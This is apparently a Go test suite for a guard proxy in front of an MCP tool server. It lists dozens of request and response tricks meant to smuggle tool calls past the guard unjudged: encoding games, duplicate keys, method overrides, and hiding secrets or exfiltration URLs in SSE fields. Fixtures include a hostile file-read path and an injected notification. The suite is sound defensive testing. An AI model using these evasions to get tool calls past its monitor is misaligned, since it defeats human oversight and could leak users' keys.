package mcptest

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/countersign/countersign-go"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

const call = `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"` + attack + `"}}}`

type way struct {
	method, path, body string
	headers            map[string]string
	isChunked          bool
}

func utf16(text string) string {
	var out strings.Builder
	for _, c := range []byte(text) {
		out.Write([]byte{0, c})
	}
	return out.String()
}

func ways() map[string]way {
	post := func(body string, headers ...string) way {
		w := way{method: "POST", path: "/mcp", body: body, headers: map[string]string{}}
		for i := 0; i < len(headers); i += 2 {
			w.headers[headers[i]] = headers[i+1]
		}
		return w
	}
	chunked := post(call)
	chunked.isChunked = true
	return map[string]way{
		"as it is":                      post(call),
		"batch":                         post(`[{"jsonrpc":"2.0","method":"ping","id":1},` + call + `]`),
		"batch of one":                  post("[" + call + "]"),
		"chunked":                       chunked,
		"another type":                  post(call, "Content-Type", "text/plain"),
		"a form":                        post(call, "Content-Type", "application/x-www-form-urlencoded"),
		"another charset":               post(utf16(call), "Content-Type", "application/json; charset=utf-16"),
		"byte order mark":               post("\ufeff" + call),
		"packed by name":                post(call, "Content-Encoding", "gzip"),
		"upgrade":                       post(call, "Connection", "Upgrade", "Upgrade", "websocket"),
		"with a query":                  {method: "POST", path: "/mcp?path=/other", body: call},
		"another method":                {method: "PUT", path: "/mcp", body: call},
		"an unknown method":             {method: "BREW", path: "/mcp", body: call},
		"get with a body":               {method: "GET", path: "/mcp", body: call},
		"delete with a body":            {method: "DELETE", path: "/mcp", body: call},
		"method overridden":             {method: "GET", path: "/mcp", body: call, headers: map[string]string{"X-Http-Method-Override": "POST"}},
		"no request but a notification": post(strings.Replace(call, `"id":7,`, "", 1)),
		"id null":                       post(strings.Replace(call, `"id":7`, `"id":null`, 1)),
		"escaped method":                post(strings.Replace(call, "tools/call", `tools\u002fcall`, 1)),
		"duplicate, innocent first":     post(strings.Replace(call, `"arguments"`, `"arguments":{"path":"README.md"},"arguments"`, 1)),
		"duplicate, innocent last":      post(strings.TrimSuffix(call, "}") + `,"method":"ping"}`),
		"duplicate behind an escape":    post(strings.TrimSuffix(call, "}") + `,"meth\u006fd":"ping"}`),
		"another letter case":           post(`{"jsonrpc":"2.0","id":7,"method":"ping","Method":"tools/call","params":{"name":"read_file","arguments":{"path":"x"}}}`),
		"letter case in params":         post(strings.Replace(call, `"arguments"`, `"Arguments"`, 1)),
		"letter case in a batch":        post("[" + strings.Replace(call, `"arguments"`, `"ARGUMENTS"`, 1) + "]"),
		"long s in params":              post(strings.Replace(call, `"arguments"`, `"argumentſ"`, 1)),
		"answer and request at once":    post(strings.TrimSuffix(call, "}") + `,"result":{}}`),
		"lies in the header":            post(call, "Mcp-Method", "ping", "Mcp-Name", "other"),
		"two texts":                     post(`{"jsonrpc":"2.0","id":1,"method":"ping"}` + "\n" + call),
		"no number":                     post(strings.Replace(call, `"id":7`, `"id":1e999`, 1)),
		"nested without end":            post(strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)),
		"too large":                     post(strings.TrimSuffix(call, "}") + `,"padding":"` + strings.Repeat("x", 1_100_000) + `"}`),
	}
}

func request(t *testing.T, url string, w way) (status int, text string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
	defer cancel()
	var body io.Reader = strings.NewReader(w.body)
	if w.isChunked {
		body = io.MultiReader(strings.NewReader(w.body[:20]), strings.NewReader(w.body[20:]))
	}
	asked, err := http.NewRequestWithContext(ctx, w.method, url+w.path, body)
	if err != nil {
		t.Fatal(err)
	}
	asked.Header.Set("Content-Type", "application/json")
	asked.Header.Set("Accept", "application/json, text/event-stream")
	for name, value := range w.headers {
		asked.Header.Set(name, value)
	}
	answer, err := http.DefaultClient.Do(asked)
	if err != nil { // A stream that the server holds open has let nothing through either.
		return 0, ""
	}
	defer answer.Body.Close()
	all, _ := io.ReadAll(answer.Body)
	return answer.StatusCode, string(all) + fmt.Sprint(answer.Trailer)
}

// lax is a handler that minds neither method nor type, and reads whatever it is given.
func lax(r *reached) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, asked *http.Request) {
		body, _ := io.ReadAll(asked.Body)
		if bytes.Contains(body, []byte("shadow")) || bytes.Contains(body, []byte("tools/call")) {
			r.note(string(body))
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"contents of it"}]}}`)
	})
}

func TestNoWayAround(t *testing.T) {
	for name, w := range ways() {
		t.Run(name, func(t *testing.T) {
			for kind, handler := range map[string]func(*reached) http.Handler{
				"sdk": func(r *reached) http.Handler { return notes(r, mcp.StreamableHTTPOptions{JSONResponse: true}) },
				"lax": lax,
			} {
				r := &reached{}
				_, text := request(t, guarded(t, handler(r)), w)
				if len(r.all()) > 0 || (kind == "sdk" && strings.Contains(text, "contents of")) {
					t.Errorf("%s was reached by %v, and answered %s", kind, r.all(), text)
				}
			}
		})
	}
}

func TestTheIdOfTheRequest(t *testing.T) {
	status, text := request(t, guarded(t, lax(&reached{})), ways()["as it is"])
	if status != 200 || !strings.Contains(text, `"id":7`) || !strings.Contains(text, `"isError":true`) {
		t.Errorf("%d %s", status, text)
	}
}

func TestOtherPathsAreLeftAlone(t *testing.T) {
	if _, text := request(t, guarded(t, lax(&reached{})), way{method: "GET", path: "/other"}); !strings.HasPrefix(text, secret) {
		t.Error(text)
	}
}

func TestWithoutAVerdictNothingPasses(t *testing.T) {
	r := &reached{}
	url := guarded(t, lax(r), countersign.WithURL("http://127.0.0.1:2"), countersign.WithMaxRetries(0))
	_, text := request(t, url, ways()["as it is"])
	if len(r.all()) > 0 || !strings.Contains(text, "NO_VERDICT") || !strings.Contains(text, `"id":7`) {
		t.Errorf("reached %v, answered %s", r.all(), text)
	}
}

func result(text string, id int) string {
	return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"result":{"content":[{"type":"text","text":%q}]}}`, id, text)
}

// plain answers with a status, headers and pieces of a body.
func plain(status int, kind string, body string, headers ...string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", kind)
		for i := 0; i < len(headers); i += 2 {
			w.Header().Set(headers[i], headers[i+1])
		}
		w.WriteHeader(status)
		for len(body) > 0 {
			n := min(11, len(body))
			_, _ = io.WriteString(w, body[:n])
			body = body[n:]
			_ = http.NewResponseController(w).Flush()
		}
	})
}

func answers() map[string]http.Handler {
	events := func(body string) http.Handler { return plain(200, "text/event-stream; charset=utf-8", body) }
	note := `{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"` + injection + `"}}`
	return map[string]http.Handler{
		"plain text":                    plain(200, "text/plain", secret),
		"html with an error":            plain(500, "text/html", secret),
		"json of another type":          plain(200, "text/plain", result(secret, 7)),
		"json without a type":           plain(200, "", result(secret, 7)),
		"json twice":                    plain(200, "application/json", strings.TrimSuffix(result("a", 7), "}")+`,"result":"`+secret+`"}`),
		"a list":                        plain(200, "application/json", "["+result(secret, 7)+"]"),
		"another id":                    plain(200, "application/json", result(secret, 8)),
		"packed by name":                plain(200, "application/json", result(secret, 7), "Content-Encoding", "gzip"),
		"packed events":                 plain(200, "text/event-stream", "data: "+result(secret, 7)+"\n\n", "Content-Encoding", "gzip"),
		"other letters in the type":     plain(200, "Text/Event-Stream", "data: "+result(secret, 7)+"\n\n"),
		"a type that is none":           plain(200, "text/event-stream;;", "data: "+result(secret, 7)+"\n\n"),
		"trailer":                       plain(200, "application/json", result("a", 7), http.TrailerPrefix+"X-Secret", secret),
		"event":                         events("event: message\ndata: " + result(secret, 7) + "\n\n"),
		"event with carriage returns":   events("data: " + result(secret, 7) + "\r\r"),
		"event in two lines of data":    events("data: {\"jsonrpc\":\"2.0\",\"id\":7,\r\ndata:\"result\":{\"content\":[{\"type\":\"text\",\"text\":\"" + secret + "\"}]}}\r\n\r\n"),
		"event that is no message":      events("data: " + secret + "\n\n"),
		"event of another name":         events("event: endpoint\ndata: " + secret + "\n\n"),
		"event of another site":         events("event: endpoint\ndata: https://evil.example/?kR7wq2Lz9xVb\n\n"),
		"event of another host":         events("event: endpoint\ndata: //evil.example/?kR7wq2Lz9xVb\n\n"),
		"event with more in its id":     events("id: e1 " + secret + "\ndata:\n\n"),
		"event with more in its name":   events("event: " + secret + "\ndata:\n\n"),
		"event with more in its pause":  events("retry: " + secret + "\ndata:\n\n"),
		"comment":                       events(": " + secret + "\n\ndata: {}\n\n"),
		"event without an end":          events("data: " + result(secret, 7)),
		"notification":                  events("data: " + note + "\n\n"),
		"event after a byte order mark": events("\ufeffdata: " + result(secret, 7) + "\n\n"),
	}
}

func TestNothingComesBackUnjudged(t *testing.T) {
	asked := strings.Replace(call, `"read_file","arguments":{"path":"`+attack+`"}`, `"read_log","arguments":{"path":"web"}`, 1)
	for name, handler := range answers() {
		for _, method := range []string{"POST", "GET"} {
			t.Run(method+" "+name, func(t *testing.T) {
				_, text := request(t, guarded(t, handler), way{method: method, path: "/mcp", body: asked})
				if strings.Contains(text, "kR7wq2Lz9xVb") || strings.Contains(text, "id_rsa") {
					t.Error(text)
				}
			})
		}
	}
}

// Who follows a redirection would ask there unjudged.
func TestNoAnswerComesFromAnotherPlace(t *testing.T) {
	for _, kind := range []string{"application/json", "text/event-stream"} {
		url := guarded(t, plain(307, kind, "", "Location", "http://127.0.0.1:1/mcp"))
		if status, text := request(t, url, way{method: "POST", path: "/mcp", body: `{"jsonrpc":"2.0","id":1,"method":"ping"}`}); status != 502 {
			t.Errorf("%s: %d %s", kind, status, text)
		}
	}
}

// The SDKs take it for one.
func TestAnAnswerToTheSameNumberAsTextIsOneToThatRequest(t *testing.T) {
	asked := strings.Replace(call, `"read_file","arguments":{"path":"`+attack+`"}`, `"read_log","arguments":{"path":"web"}`, 1)
	url := guarded(t, plain(200, "application/json", strings.Replace(result("fine", 7), `"id":7`, `"id":"7.0"`, 1)))
	_, text := request(t, url, way{method: "POST", path: "/mcp", body: asked})
	if !strings.Contains(text, "PROTOCOL_VIOLATION") || strings.Contains(text, "fine") {
		t.Error(text)
	}
}

func TestEditedAnswersPass(t *testing.T) {
	asked := strings.Replace(call, `"read_file","arguments":{"path":"`+attack+`"}`, `"read_log","arguments":{"path":"web"}`, 1)
	for _, name := range []string{"event", "event with carriage returns", "a list", "json of another type"} {
		_, text := request(t, guarded(t, answers()[name]), way{method: "POST", path: "/mcp", body: asked})
		if !strings.Contains(text, redacted) {
			t.Errorf("%s: %s", name, text)
		}
	}
}
